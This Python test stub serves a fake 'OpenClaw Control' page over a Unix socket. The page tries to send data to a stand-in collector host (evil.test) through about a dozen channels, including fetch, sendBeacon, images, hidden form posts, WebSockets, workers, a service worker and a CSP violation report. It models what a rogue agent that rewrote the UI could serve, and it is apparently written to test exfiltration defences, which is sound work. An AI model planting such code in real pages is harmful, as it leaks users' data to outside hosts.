"""A hostile container UI on a Unix socket, for tests/attacks/launch_ui_page_exfil.sh: what an agent
that rewrote OpenClaw's control UI could serve. Python stdlib only.

launch_ui_exfil_stub.py SOCKET COLLECTOR. GET / answers a page that tries to send "stolen" to
COLLECTOR (http://evil.test:<port>, another site) every way a page can without the user: fetch,
sendBeacon, an image, a script, a stylesheet, a frame, a form posted into a hidden frame, a
WebSocket, a dedicated worker's fetch, a service worker, a violation report of its own policy; /worker.js and /sw.js are those workers'
scripts. Answers keep the connection alive (as Node's do). Exits after 10 minutes."""
import os, socket, sys, threading, time

path, collector = sys.argv[1], sys.argv[2]

PAGE = """<!doctype html><html><head><title>OpenClaw Control</title>
<link rel="stylesheet" href="C/style?d=stolen"></head><body>hello-ui
<img src="C/img?d=stolen">
<iframe src="C/frame?d=stolen"></iframe>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" action="C/form?d=stolen" target="sink"><input name="d" value="stolen"></form>
<script src="C/script?d=stolen"></script>
<script>
window.__r = {};
const note = (k, v) => { window.__r[k] = String(v); };
try { fetch("C/fetch?d=stolen", {mode: "no-cors"}).then(() => note("fetch", "sent"), (e) => note("fetch", e)); } catch (e) { note("fetch", e); }
try { note("beacon", navigator.sendBeacon("C/beacon?d=stolen", "stolen")); } catch (e) { note("beacon", e); }
try { const ws = new WebSocket("C/ws".replace("http:", "ws:")); ws.onerror = () => note("ws", "error"); } catch (e) { note("ws", e); }
try { document.getElementById("f").submit(); note("form", "submitted"); } catch (e) { note("form", e); }
try { new Audio("C/media?d=stolen").play().catch(() => {}); } catch (e) { note("media", e); }
try { const w = new Worker("/worker.js"); w.onmessage = (m) => note("worker", m.data); w.onerror = (e) => note("worker", "error " + e.message); } catch (e) { note("worker", e); }
if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js").then(() => note("sw", "registered"), (e) => note("sw", e));
else note("sw", "no serviceWorker");
</script></body></html>""".replace("C/", collector + "/")

WORKER = 'fetch("C/worker?d=stolen", {mode: "no-cors"}).then(() => postMessage("sent"), (e) => postMessage(String(e)));'.replace("C/", collector + "/")
SW = 'self.addEventListener("install", () => fetch("C/sw?d=stolen", {mode: "no-cors"}));'.replace("C/", collector + "/")


# A policy of the page's own whose violation report goes to the collector: the audio above
# violates it, and the browser POSTs the report (with the blocked URL) there, outside any
# connect-src.
REPORTING = "Content-Security-Policy: media-src 'none'; report-uri C/report?d=stolen\r\n".replace("C/", collector + "/")


def answer(c, ctype, body):
    data = body.encode()
    c.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(data)}\r\n{REPORTING}"
              f"Connection: keep-alive\r\n\r\n".encode() + data)


def serve(c):
    try:
        c.settimeout(30)
        data = b""
        while True:
            while b"\r\n\r\n" not in data:
                chunk = c.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, data = data.partition(b"\r\n\r\n")
            target = head.split(b" ")[1].decode() if b" " in head else "/"
            if target == "/worker.js":
                answer(c, "text/javascript", WORKER)
            elif target == "/sw.js":
                answer(c, "text/javascript", SW)
            else:
                answer(c, "text/html", PAGE)
    except OSError:
        pass
    finally:
        c.close()


s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(path)
s.listen(64)
s.settimeout(1)
end = time.time() + 600
while time.time() < end:
    try:
        conn, _ = s.accept()
    except socket.timeout:
        continue
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
